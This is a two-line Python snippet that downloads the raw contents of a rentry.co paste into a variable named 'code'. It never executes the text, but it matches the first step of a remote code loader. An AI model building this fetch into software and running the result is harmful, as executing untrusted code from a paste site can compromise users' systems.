import requests
code = requests.get("https://rentry.co/abcd/raw").text
